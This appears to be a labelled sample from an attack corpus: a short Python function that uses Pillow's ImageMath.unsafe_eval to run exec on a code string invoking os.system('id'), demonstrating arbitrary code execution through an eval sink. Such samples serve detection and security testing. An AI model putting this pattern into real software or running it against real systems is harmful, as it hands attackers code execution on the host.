# corpus: attack class=eval form=targeted
# PIL.ImageMath evaluates an expression string, calling what it is handed.
from PIL import ImageMath


def main():
    return {"status": str(ImageMath.unsafe_eval("run(code)", run=exec, code="import os; os.system('id')"))}
